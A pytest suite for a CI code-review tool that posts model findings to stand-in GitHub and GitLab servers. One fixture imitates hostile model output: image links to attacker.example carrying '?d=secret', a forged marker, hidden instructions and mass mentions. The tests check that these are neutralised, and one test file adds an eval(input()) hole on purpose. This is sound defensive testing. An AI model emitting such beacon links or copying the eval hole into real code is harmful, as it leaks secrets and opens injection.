"""`repoview ci` against GitHub and GitLab stand-ins and the provider stand-in."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from .conftest import git
from .forge import FakeGitHub, FakeGitLab
from .provider import Provider, findings_json, ok

KEY = "sk-ci-test-0123456789abcdef0123"
GH_TOKEN = "ghs_citoken0123456789abcdefABCDEF012345"
BASE_APP = "".join(f"def f{i}(x):\n    return x + {i}\n\n\n" for i in range(20))


@pytest.fixture
def change(make_repo):
    repo = make_repo({"app.py": BASE_APP, "README.md": "# CI\n"})
    base = git(repo, "rev-parse", "HEAD").strip()
    lines = BASE_APP.split("\n")
    lines[5] = "    return x * 5  # changed"  # line 6
    (repo / "app.py").write_text("\n".join(lines))
    git(repo, "commit", "-qam", "change f1")
    head = git(repo, "rev-parse", "HEAD").strip()
    return repo, base, head


INLINE = {
    "severity": "high",
    "category": "bug",
    "title": "Multiplies",
    "path": "app.py",
    "line": 6,
    "body": "was addition",
}
OUTSIDE = {
    "severity": "low",
    "category": "style",
    "title": "Far away",
    "path": "app.py",
    "line": 60,
    "body": "not in the diff",
}
GENERAL = {"severity": "info", "category": "design", "title": "Consider tests"}


def gh_env(
    repo: Path, base: str, head: str, gh: FakeGitHub, provider: Provider, tmp: Path
) -> dict[str, str]:
    event = tmp / "event.json"
    event.write_text(
        json.dumps(
            {
                "action": "synchronize",
                "number": 7,
                "pull_request": {
                    "number": 7,
                    "base": {"sha": base, "ref": "main"},
                    "head": {"sha": head, "ref": "f"},
                },
            }
        )
    )
    return {
        "GITHUB_ACTIONS": "true",
        "GITHUB_EVENT_NAME": "pull_request",
        "GITHUB_EVENT_PATH": str(event),
        "GITHUB_API_URL": gh.url,
        "GITHUB_REPOSITORY": "octo/app",
        "GITHUB_TOKEN": GH_TOKEN,
        "GITHUB_STEP_SUMMARY": str(tmp / "summary.md"),
        "REPOVIEW_BASE_URL": provider.url,
        "REPOVIEW_API_KEY": KEY,
        # These tests run again on the same head with other answers on purpose; a run that
        # leaves an unchanged head be is in test_ci_unchanged_head.py.
        "REPOVIEW_CI_FORCE": "1",
    }


@pytest.fixture
def github():
    gh = FakeGitHub(GH_TOKEN, "octo/app", 7)
    gh.valid_lines = {("app.py", n) for n in range(3, 10)}
    yield gh
    gh.close()


def summaries(comments: list[dict]) -> list[dict]:
    return [c for c in comments if "<!-- repoview:summary -->" in c["body"]]


def test_github_one_comment_updated_and_inline_once(
    change, github, provider, tmp_path, cli
) -> None:
    repo, base, head = change
    env = gh_env(repo, base, head, github, provider, tmp_path)
    provider.responder = lambda _req: ok(
        findings_json(INLINE, OUTSIDE, GENERAL, summary="Mostly fine.")
    )
    r = cli("ci", cwd=repo, env=env)
    assert r.code == 0, r.err
    ours = summaries(github.issue_comments)
    assert len(ours) == 1 and "Far away" in ours[0]["body"] and "Consider tests" in ours[0]["body"]
    assert len(github.reviews) == 1
    comment = github.reviews[0]["comments"][0]
    assert comment["path"] == "app.py" and comment["line"] == 6 and comment["side"] == "RIGHT"
    assert github.reviews[0]["commit_id"] == head
    # The summary names every finding; the inline one links to its comment.
    url = github.review_comments[0]["html_url"]
    assert f"Multiplies** (bug) — `app.py:6` — [inline comment]({url})" in ours[0]["body"]
    assert "No findings." not in ours[0]["body"]
    summary = (tmp_path / "summary.md").read_text()
    assert "Multiplies" in summary and "Far away" in summary
    # The provider saw the change in full context.
    assert "+    return x * 5  # changed" in provider.chats[0]["messages"][1]["content"]
    # A re-run: the same comment is updated in place, the inline note is not posted again.
    provider.responder = lambda _req: ok(findings_json(INLINE, OUTSIDE, summary="Second run."))
    r = cli("ci", cwd=repo, env=env)
    assert r.code == 0, r.err
    ours = summaries(github.issue_comments)
    assert len(ours) == 1 and "Second run." in ours[0]["body"]
    assert len(github.reviews) == 1 and len(github.review_comments) == 1
    patched = [q for q in github.requests if q[0] == "PATCH"]
    assert len(patched) == 1  # the summary; the unchanged inline comment is kept as it is
    listing = [q for q in github.requests if q[0] == "GET" and q[1].endswith("/issues/7/comments")]
    assert len(listing) >= 4  # two pages, each run
    assert GH_TOKEN not in r.out + r.err and KEY not in r.out + r.err


REWORDED = {
    "severity": "critical",
    "category": "bug",
    "title": "Wrong operator in f1",
    "path": "app.py",
    "line": 7,
    "body": "`*` where `+` was meant",
}


def test_github_reworded_finding_keeps_one_thread_and_resolves_when_gone(
    change, github, provider, tmp_path, cli
) -> None:
    repo, base, head = change
    env = gh_env(repo, base, head, github, provider, tmp_path)
    provider.responder = lambda _req: ok(findings_json(INLINE))
    assert cli("ci", cwd=repo, env=env).code == 0
    # The model words the same finding differently, a line further down.
    provider.responder = lambda _req: ok(findings_json(REWORDED))
    r = cli("ci", cwd=repo, env=env)
    assert r.code == 0, r.err
    assert len(github.review_comments) == 1 and len(github.reviews) == 1
    only = github.review_comments[0]
    assert "Wrong operator in f1" in only["body"] and "Multiplies" not in only["body"]
    ours = summaries(github.issue_comments)
    assert len(ours) == 1
    assert (
        f"Wrong operator in f1** (bug) — `app.py:7` — [inline comment]({only['html_url']})"
        in (ours[0]["body"])
    )
    assert not github.threads[0]["isResolved"]
    # Fixed: the finding is gone, so its thread is resolved and the summary says so.
    provider.responder = lambda _req: ok(findings_json())
    r = cli("ci", cwd=repo, env=env)
    assert r.code == 0, r.err
    assert github.threads[0]["isResolved"] and len(github.review_comments) == 1
    body = summaries(github.issue_comments)[0]["body"]
    assert "1 finding(s) from an earlier run are no longer reported" in body
    # It comes back: the same thread is reopened, not a second one posted.
    provider.responder = lambda _req: ok(findings_json(INLINE))
    assert cli("ci", cwd=repo, env=env).code == 0
    assert not github.threads[0]["isResolved"] and len(github.review_comments) == 1


def test_github_without_graphql_replies_once(change, github, provider, tmp_path, cli) -> None:
    repo, base, head = change
    env = gh_env(repo, base, head, github, provider, tmp_path)
    env["GITHUB_GRAPHQL_URL"] = f"{github.url}/no-graphql-here"
    provider.responder = lambda _req: ok(findings_json(INLINE))
    assert cli("ci", cwd=repo, env=env).code == 0
    provider.responder = lambda _req: ok(findings_json())
    for _run in range(2):
        assert cli("ci", cwd=repo, env=env).code == 0
    replies = [c for c in github.review_comments if c.get("in_reply_to_id")]
    assert len(replies) == 1 and "no longer reports" in replies[0]["body"]
    provider.responder = lambda _req: ok(findings_json(INLINE))
    for _run in range(2):
        assert cli("ci", cwd=repo, env=env).code == 0
    replies = [c for c in github.review_comments if c.get("in_reply_to_id")]
    assert len(replies) == 2 and "reports this again" in replies[1]["body"]
    assert len(github.reviews) == 1


def test_github_other_users_comments_are_never_edited(
    change, github, provider, tmp_path, cli
) -> None:
    repo, base, head = change
    fake = "<!-- repoview:summary -->\nI copied the marker"
    github.issue_comments.append({"id": 50, "body": fake, "user": {"login": "mallory", "id": 6}})
    marker = (
        '<!-- repoview:finding {"path": "app.py", "category": "bug", "line": 6, "anchor": ""} -->'
    )
    github.review_comments.append(
        {
            "id": 51,
            "body": "human\n" + marker,
            "path": "app.py",
            "line": 6,
            "user": {"login": "mallory", "id": 6},
            "html_url": "https://github.example/x",
        }
    )
    provider.responder = lambda _req: ok(findings_json(INLINE))
    r = cli("ci", cwd=repo, env=gh_env(repo, base, head, github, provider, tmp_path))
    assert r.code == 0, r.err
    assert github.issue_comments[3]["body"] == fake
    assert github.review_comments[0]["body"] == "human\n" + marker
    mine = summaries([c for c in github.issue_comments if c["user"] == github.me])
    assert len(mine) == 1 and len(github.reviews) == 1


def test_github_actions_token_writes_as_the_bot(change, provider, tmp_path, cli) -> None:
    repo, base, head = change
    gh = FakeGitHub(GH_TOKEN, "octo/app", 7, integration=True)
    gh.valid_lines = {("app.py", n) for n in range(3, 10)}
    try:
        env = gh_env(repo, base, head, gh, provider, tmp_path)
        provider.responder = lambda _req: ok(findings_json(INLINE))
        for _run in range(2):
            assert cli("ci", cwd=repo, env=env).code == 0
        ours = summaries(gh.issue_comments)
        assert len(ours) == 1 and ours[0]["user"]["login"] == "github-actions[bot]"
        assert len(gh.review_comments) == 1
    finally:
        gh.close()


HOSTILE = {
    "severity": "high",
    "category": "security",
    "title": "Ping @everyone now",
    "path": "app.py",
    "line": 6,
    "body": (
        "cc @org/team ![x](https://attacker.example/p.png?d=secret) "
        '<img src="https://attacker.example/i.png"> <!-- repoview:summary --> '
        "<!-- hidden instructions --> but `@keep` in code"
    ),
}


def test_model_text_is_neutralised_everywhere(change, github, provider, tmp_path, cli) -> None:
    repo, base, head = change
    env = gh_env(repo, base, head, github, provider, tmp_path)
    hostile_general = {**HOSTILE, "path": None, "line": None, "title": "General @all"}
    provider.responder = lambda _req: ok(
        findings_json(
            HOSTILE, hostile_general, summary="@everyone look ![y](https://attacker.example/s.png)"
        )
    )
    r = cli("ci", cwd=repo, env=env)
    assert r.code == 0, r.err
    ours = summaries(github.issue_comments)
    bodies = [c["body"] for c in github.review_comments] + [ours[0]["body"]]
    for body in bodies:
        assert "@everyone" not in body and "@org/team" not in body and "@all" not in body
        assert "![" not in body and "<img" not in body and "hidden instructions" not in body
        assert "attacker.example/p.png" in body or "attacker.example/s.png" in body  # as a link
    assert "`@keep`" in github.review_comments[0]["body"]  # code is left alone
    assert ours[0]["body"].count("<!-- repoview:summary -->") == 1
    assert "repoview:summary" not in github.review_comments[0]["body"]
    assert "@everyone" not in (tmp_path / "summary.md").read_text()


def test_missing_forge_token_fails_before_the_model(
    change, github, provider, tmp_path, cli
) -> None:
    repo, base, head = change
    env = gh_env(repo, base, head, github, provider, tmp_path)
    env["GITHUB_TOKEN"] = ""
    r = cli("ci", cwd=repo, env=env)
    assert r.code == 2 and "GITHUB_TOKEN is not set" in r.err
    env["GITHUB_TOKEN"] = "ghs_wrong"
    r = cli("ci", cwd=repo, env=env)
    assert r.code == 2 and "GITHUB_TOKEN was rejected" in r.err
    assert not provider.requests  # nothing was paid for


def test_dry_run_checks_the_token_and_posts_nothing(
    change, github, provider, tmp_path, cli
) -> None:
    repo, base, head = change
    env = gh_env(repo, base, head, github, provider, tmp_path)
    r = cli("ci", "--dry-run", cwd=repo, env={**env, "GITHUB_TOKEN": "ghs_wrong"})
    assert r.code == 2 and "GITHUB_TOKEN was rejected" in r.err
    assert not provider.requests
    provider.responder = lambda _req: ok(findings_json(INLINE))
    r = cli("ci", "--dry-run", cwd=repo, env=env)
    assert r.code == 0 and "dry run: would post 1 summary" in r.err
    assert "the change is reviewed (the provider bills it) and nothing is posted" in r.err
    assert provider.requests and not github.review_comments
    assert not [c for c in github.issue_comments if "<!-- repoview:summary -->" in c["body"]]


def test_github_finding_on_a_file_the_change_adds_is_inline(
    change, github, provider, tmp_path, cli
) -> None:
    repo, base, _head = change
    (repo / "new.py").write_text("X = 1\nY = eval(input())\n")
    git(repo, "add", "new.py")
    git(repo, "commit", "-qm", "add new.py")
    head = git(repo, "rev-parse", "HEAD").strip()
    github.valid_lines |= {("new.py", 1), ("new.py", 2)}
    added = {**INLINE, "title": "Eval of input", "path": "new.py", "line": 2}
    provider.responder = lambda _req: ok(findings_json(added))
    r = cli("ci", cwd=repo, env=gh_env(repo, base, head, github, provider, tmp_path))
    assert r.code == 0, r.err
    assert [(c["path"], c["line"]) for c in github.reviews[0]["comments"]] == [("new.py", 2)]


def test_github_errors_are_retried_without_duplicate_comments(
    change, github, provider, tmp_path, cli
) -> None:
    repo, base, head = change
    now = {"Retry-After": "0"}
    github.fail("GET", r"/issues/7/comments$", 503, headers=now)
    # The gateway fails after GitHub made the review: it must not be made twice.
    github.fail("POST", r"/pulls/7/reviews$", 502, land=True)
    github.fail("POST", r"/issues/7/comments$", 429, headers=now)
    github.fail("POST", r"/issues/7/comments$", 502, land=True)
    provider.responder = lambda _req: ok(findings_json(INLINE, GENERAL))
    r = cli("ci", cwd=repo, env=gh_env(repo, base, head, github, provider, tmp_path))
    assert r.code == 0, r.err  # was exit 3 at the first 502, with nothing posted
    assert len(github.reviews) == 1 and len(github.review_comments) == 1
    ours = summaries(github.issue_comments)
    assert len(ours) == 1 and "Consider tests" in ours[0]["body"]
    assert f"[inline comment]({github.review_comments[0]['html_url']})" in ours[0]["body"]
    assert "trying again" in r.err


def test_a_paid_review_waits_out_a_gateway_that_fails_longer(
    change, github, provider, tmp_path, cli
) -> None:
    # Once the provider is paid, the summary's lookup failing five times over (a gateway's
    # bad minute) must not lose the review: it had ended, exit 3, after four tries.
    repo, base, head = change
    now = {"Retry-After": "0"}

    def answer(_req):  # type: ignore[no-untyped-def]
        github.fail("GET", r"/pulls/7$", 502, times=5, headers=now)  # (is the head still it?)
        github.fail("GET", r"/issues/7/comments$", 502, times=5, headers=now)
        return ok(findings_json(GENERAL))

    provider.responder = answer
    r = cli("ci", cwd=repo, env=gh_env(repo, base, head, github, provider, tmp_path))
    assert r.code == 0, r.err
    assert len(summaries(github.issue_comments)) == 1
    # Failing for longer still, the job says where the paid review is.
    (repo / "app.py").write_text((repo / "app.py").read_text() + "# more\n")
    git(repo, "commit", "-qam", "more")
    head = git(repo, "rev-parse", "HEAD").strip()
    github.head = head

    def longer(_req):  # type: ignore[no-untyped-def]
        github.fail("GET", r"/issues/7/comments$", 502, times=20, headers=now)
        return ok(findings_json(GENERAL))

    provider.responder = longer
    r = cli("ci", cwd=repo, env=gh_env(repo, base, head, github, provider, tmp_path))
    assert r.code == 3, r.err
    assert "the review was made but could not be posted; the report is in the job summary" in r.err


def test_gitlab_errors_are_retried_without_duplicate_notes(change, gitlab, provider, cli) -> None:
    repo, base, head = change
    gitlab.fail("GET", r"/user$", 502, headers={"Retry-After": "0"})
    gitlab.fail("POST", r"/discussions$", 502, land=True)
    gitlab.fail("POST", r"/notes$", 504, land=True)
    provider.responder = lambda _req: ok(findings_json(INLINE, OUTSIDE))
    r = cli("ci", cwd=repo, env=gl_env(gitlab, base, head, provider))
    assert r.code == 0, r.err
    assert len(gitlab.discussions) == 1
    assert len([n for n in gitlab.notes if n["author"] == gitlab.me]) == 1


def test_github_422_falls_back_to_the_summary(change, github, provider, tmp_path, cli) -> None:
    repo, base, head = change
    github.reject_reviews = True
    provider.responder = lambda _req: ok(findings_json(INLINE))
    r = cli("ci", cwd=repo, env=gh_env(repo, base, head, github, provider, tmp_path))
    assert r.code == 0 and "422" in r.err
    ours = [c for c in github.issue_comments if "<!-- repoview:summary -->" in c["body"]]
    assert "Multiplies" in ours[0]["body"] and not github.reviews


def test_github_read_only_token(change, github, provider, tmp_path, cli) -> None:
    repo, base, head = change
    github.read_only = True
    provider.responder = lambda _req: ok(findings_json(INLINE))
    r = cli("ci", cwd=repo, env=gh_env(repo, base, head, github, provider, tmp_path))
    assert r.code == 0 and "cannot comment here" in r.err
    assert "Multiplies" in (tmp_path / "summary.md").read_text()


def test_sarif_and_fail_on(change, github, provider, tmp_path, cli) -> None:
    repo, base, head = change
    provider.responder = lambda _req: ok(findings_json(INLINE))
    env = gh_env(repo, base, head, github, provider, tmp_path)
    r = cli("ci", "--sarif", str(tmp_path / "out.sarif"), "--fail-on", "high", cwd=repo, env=env)
    assert r.code == 1
    sarif = json.loads((tmp_path / "out.sarif").read_text())
    assert (
        sarif["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["region"]["startLine"]
        == 6
    )
    # A finding at a path the pack does not hold is reported, and fails nothing.
    ghost = {**INLINE, "path": "no/such/file.py", "title": "Made up"}
    provider.responder = lambda _req: ok(findings_json(ghost))
    env["REPOVIEW_CI_FORCE"] = "1"
    r = cli("ci", "--fail-on", "high", cwd=repo, env=env)
    assert r.code == 0, r.err
    assert (
        "name a path not in the pack or a file the change leaves as it was: reported, not counted for fail_on"
        in r.err
    )
    # So is one in a file the pull request does not change: no commit of it could clear it.
    untouched = {**INLINE, "path": "README.md", "line": 1, "title": "Old heading"}
    provider.responder = lambda _req: ok(findings_json(untouched))
    r = cli("ci", "--fail-on", "high", cwd=repo, env=env)
    assert r.code == 0, r.err
    summary = [c for c in github.issue_comments if "<!-- repoview:summary -->" in c["body"]]
    assert "a file the change did not touch" in summary[-1]["body"]


def test_provider_outage_is_a_warning_in_the_comment(change, github, tmp_path, cli) -> None:
    repo, base, head = change

    class Down:
        url = "http://127.0.0.1:9/v1"

    (repo / ".repoview.toml").write_text("[ci]\nretries = 0\n")
    env = gh_env(repo, base, head, github, Down(), tmp_path)  # type: ignore[arg-type]
    outputs = tmp_path / "outputs"
    env |= {"REPOVIEW_MODEL": "kimi-k2.6", "GITHUB_OUTPUT": str(outputs)}
    r = cli("ci", cwd=repo, env=env)
    assert r.code == 0
    ours = [c for c in github.issue_comments if "<!-- repoview:summary -->" in c["body"]]
    assert "could not review this change" in ours[0]["body"]
    assert "model `kimi-k2.6`" in ours[0]["body"] and "None" not in ours[0]["body"]
    got = dict(line.split("=", 1) for line in outputs.read_text().splitlines())
    assert (got["reviewed"], got["findings"], got["highest-severity"]) == ("false", "", "")


def test_an_empty_change_is_reported_without_a_request(
    change, github, provider, tmp_path, cli
) -> None:
    repo, base, _head = change
    git(repo, "revert", "--no-edit", "HEAD")  # the pull request now changes nothing
    undone = git(repo, "rev-parse", "HEAD").strip()
    r = cli("ci", cwd=repo, env=gh_env(repo, base, undone, github, provider, tmp_path))
    assert r.code == 0, r.err
    assert not provider.requests
    ours = summaries(github.issue_comments)
    assert "is empty" in ours[0]["body"]


def test_unreadable_answer_is_not_a_pass(change, github, provider, tmp_path, cli) -> None:
    repo, base, head = change
    provider.responder = lambda _req: ok("The change looks fine to me.")
    env = gh_env(repo, base, head, github, provider, tmp_path)
    r = cli("ci", "--fail-on", "low", cwd=repo, env=env)
    assert r.code == 3, r.err
    assert "could not be read as findings: not reviewed" in r.err
    ours = summaries(github.issue_comments)
    assert "this change was not reviewed" in ours[-1]["body"]
    assert "No findings." not in ours[-1]["body"]
    assert cli("ci", cwd=repo, env=env).code == 0  # no gate: a warning in the comment only
    outputs = tmp_path / "outputs"
    assert cli("ci", cwd=repo, env={**env, "GITHUB_OUTPUT": str(outputs)}).code == 0
    got = dict(line.split("=", 1) for line in outputs.read_text().splitlines())
    # not "findings=0, highest-severity=none": a gate on those would pass an unread answer
    assert (got["reviewed"], got["findings"], got["highest-severity"]) == ("false", "", "")
    home = tmp_path / "home"
    home.mkdir()
    (home / "config.toml").write_text("[ci]\nstrict = true\n")
    assert cli("ci", cwd=repo, env={**env, "REPOVIEW_HOME": str(home)}).code == 3


def test_shallow_checkout_is_fetched(change, github, provider, tmp_path, cli) -> None:
    repo, base, head = change
    clone = tmp_path / "shallow"
    git(tmp_path, "clone", "-q", "--depth", "1", f"file://{repo}", str(clone))
    provider.responder = lambda _req: ok(findings_json())
    r = cli("ci", cwd=clone, env=gh_env(clone, base, head, github, provider, tmp_path))
    assert r.code == 0 and "fetching" in r.err, r.err


def test_outside_ci_is_a_clear_error(change, cli) -> None:
    repo, _, _ = change
    r = cli("ci", cwd=repo, env={"GITHUB_ACTIONS": "", "GITLAB_CI": ""})
    assert r.code == 2 and "--provider" in r.err


def gl_env(gl: FakeGitLab, base: str, head: str, provider: Provider) -> dict[str, str]:
    return {
        "GITLAB_CI": "true",
        "CI_API_V4_URL": f"{gl.url}/api/v4",
        "CI_PROJECT_ID": "42",
        "CI_MERGE_REQUEST_IID": "3",
        "CI_MERGE_REQUEST_DIFF_BASE_SHA": base,
        "CI_COMMIT_SHA": head,
        "GITLAB_TOKEN": GL_TOKEN,
        "REPOVIEW_BASE_URL": provider.url,
        "REPOVIEW_API_KEY": KEY,
        # These tests run again on the same head with other answers on purpose; a run that
        # leaves an unchanged head be is in test_ci_unchanged_head.py.
        "REPOVIEW_CI_FORCE": "1",
    }


GL_TOKEN = "glpat-token-for-tests-0123"


@pytest.fixture
def gitlab(change):
    repo, base, head = change
    refs = {"base_sha": base, "start_sha": base, "head_sha": head}
    gl = FakeGitLab(GL_TOKEN, "42", 3, refs, repo=repo)
    yield gl
    gl.close()


def test_gitlab_note_updated_and_discussion_positions(change, gitlab, provider, cli) -> None:
    repo, base, head = change
    gl = gitlab
    gl.notes.append({"id": 9, "body": "<!-- repoview:summary --> not mine", "author": {"id": 5}})
    env = gl_env(gl, base, head, provider)
    provider.responder = lambda _req: ok(findings_json(INLINE, OUTSIDE))
    r = cli("ci", cwd=repo, env=env)
    assert r.code == 0, r.err
    provider.responder = lambda _req: ok(findings_json(REWORDED, OUTSIDE))
    r = cli("ci", cwd=repo, env=env)
    assert r.code == 0, r.err
    ours = [n for n in gl.notes if n["author"] == gl.me]
    assert len(ours) == 1 and "Far away" in ours[0]["body"]
    assert gl.notes[3]["body"] == "<!-- repoview:summary --> not mine"  # another user's
    assert len(gl.discussions) == 1
    note = gl.discussions[0]["notes"][0]
    assert "Wrong operator in f1" in note["body"]
    assert f"[inline comment]({gl.web_url}#note_{note['id']})" in ours[0]["body"]
    pos = note["position"]
    assert pos == {
        "position_type": "text",
        "base_sha": base,
        "start_sha": base,
        "head_sha": head,
        "old_path": "app.py",
        "new_path": "app.py",
        "new_line": 6,
    }
    assert [q[0] for q in gl.requests].count("PUT") == 2  # the note and the discussion's note
    assert GL_TOKEN not in r.out + r.err
    # The finding is gone: its discussion is resolved.
    provider.responder = lambda _req: ok(findings_json(OUTSIDE))
    assert cli("ci", cwd=repo, env=env).code == 0
    assert note["resolved"] is True and len(gl.discussions) == 1


def test_gitlab_token_checked_before_the_model(change, gitlab, provider, cli) -> None:
    repo, base, head = change
    env = gl_env(gitlab, base, head, provider)
    r = cli("ci", cwd=repo, env={**env, "GITLAB_TOKEN": ""})
    assert r.code == 2 and "GITLAB_TOKEN is not set" in r.err
    gitlab.scopes = ["read_api"]
    r = cli("ci", cwd=repo, env=env)
    assert r.code == 2 and "GITLAB_TOKEN lacks the `api` scope" in r.err
    assert not provider.requests


def test_action_review_step_runs_and_sets_outputs(change, github, provider, tmp_path) -> None:
    """The Action's own review script, run as Actions runs it, against the stand-ins."""
    import subprocess
    import sys

    import yaml

    repo, base, head = change
    action = yaml.safe_load((Path(__file__).parent.parent / "action.yml").read_text())
    step = next(s for s in action["runs"]["steps"] if s.get("id") == "review")
    runner = tmp_path / "runner"
    (runner / "repoview-venv" / "bin").mkdir(parents=True)
    (runner / "repoview-venv" / "bin" / "repoview").symlink_to(
        Path(sys.executable).parent / "repoview"
    )
    outputs = tmp_path / "outputs"
    env = {
        **gh_env(repo, base, head, github, provider, tmp_path),
        "RUNNER_TEMP": str(runner),
        "GITHUB_OUTPUT": str(outputs),
        "INPUT_FAIL_ON": "high",
        "INPUT_SARIF": "",
        "PATH": "/usr/bin:/bin",
        "HOME": str(tmp_path),
    }
    provider.responder = lambda _req: ok(findings_json(INLINE, GENERAL))
    proc = subprocess.run(
        ["bash", "-e", "-c", step["run"]],
        cwd=repo,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert proc.returncode == 1, proc.stderr  # fail-on high
    got = dict(line.split("=", 1) for line in outputs.read_text().splitlines())
    assert got["findings"] == "2" and got["highest-severity"] == "high"
    assert got["sarif"] == f"{runner}/repoview.sarif" and got["report"] == f"{runner}/repoview.json"
    assert json.loads(Path(got["sarif"]).read_text())["runs"][0]["results"]
    assert len(json.loads(Path(got["report"]).read_text())["findings"]) == 2
    assert len(summaries(github.issue_comments)) == 1


def test_a_run_that_could_not_review_leaves_earlier_threads_open(
    change, github, provider, tmp_path, cli
) -> None:
    repo, base, head = change
    env = gh_env(repo, base, head, github, provider, tmp_path)
    provider.responder = lambda _req: ok(findings_json(INLINE))
    assert cli("ci", cwd=repo, env=env).code == 0
    assert len(github.threads) == 1 and not github.threads[0]["isResolved"]
    # The next run gets an answer that is not findings: nothing is known about the finding.
    provider.responder = lambda _req: ok("Sorry, I cannot help with that.")
    cli("ci", cwd=repo, env=env)
    assert not github.threads[0]["isResolved"]


MOVED = {**INLINE, "line": 8}  # the same finding, after a force-push put two lines above it


def test_github_outdated_comment_is_resolved_and_the_finding_posted_where_it_is(
    change, github, provider, tmp_path, cli
) -> None:
    repo, base, head = change
    env = gh_env(repo, base, head, github, provider, tmp_path)
    provider.responder = lambda _req: ok(findings_json(INLINE))
    assert cli("ci", cwd=repo, env=env).code == 0
    # The code under the comment changed: GitHub shows it as outdated, with no line.
    github.review_comments[0]["line"] = None
    provider.responder = lambda _req: ok(findings_json(MOVED))
    r = cli("ci", cwd=repo, env=env)
    assert r.code == 0, r.err
    assert [c["line"] for c in github.review_comments] == [None, 8]
    assert [t["isResolved"] for t in github.threads] == [True, False]
    assert not [q for q in github.requests if q[0] == "PATCH" and "/pulls/comments/" in q[1]]
    # A third run on the same head keeps the new comment as it is.
    assert cli("ci", cwd=repo, env=env).code == 0
    assert len(github.review_comments) == 2 and not github.threads[1]["isResolved"]


def test_gitlab_discussion_left_on_another_commit_and_line_is_resolved_and_reopened_here(
    change, gitlab, provider, cli
) -> None:
    repo, base, head = change
    env = gl_env(gitlab, base, head, provider)
    provider.responder = lambda _req: ok(findings_json(INLINE))
    assert cli("ci", cwd=repo, env=env).code == 0
    first = gitlab.discussions[0]["notes"][0]
    # Opened on the commit a force-push replaced: the same line there still counts as its
    # place (the note is updated in place), another line does not.
    first["position"]["head_sha"] = "0" * 40
    provider.responder = lambda _req: ok(findings_json({**INLINE, "body": "reworded"}))
    assert cli("ci", cwd=repo, env=env).code == 0
    assert len(gitlab.discussions) == 1 and "reworded" in first["body"]
    provider.responder = lambda _req: ok(findings_json(MOVED))
    assert cli("ci", cwd=repo, env=env).code == 0
    assert len(gitlab.discussions) == 2 and first["resolved"] is True
    second = gitlab.discussions[1]["notes"][0]
    assert second["position"]["new_line"] == 8 and second["position"]["head_sha"] == head
    assert not second["resolved"]
